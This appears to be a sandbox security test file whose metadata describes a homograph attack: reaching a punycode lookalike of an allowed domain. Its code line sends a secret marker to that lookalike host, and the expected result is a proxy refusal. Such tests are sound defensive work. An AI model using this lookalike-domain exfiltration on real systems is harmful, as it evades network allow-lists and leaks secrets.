# /// attack
# guarantee = "network"
# summary = "Reaches a name that looks like a listed one, in its ASCII form."
# reference = "RFC 5890"
# success = "the server gets the request"
# stage = ["internet"]
# observe = ["stolen"]
# needs = ["small-internet"]
# policy = { network = { allow = ["example.org:80", "*.example.org:80"] } }
# refusal = { default = "proxy xn--exmple-4nf.org:80 is not in network.allow" }
# ///

from kit import get, judge, target

judge(get("xn--exmple-4nf.org", "/" + target("MARKER")))
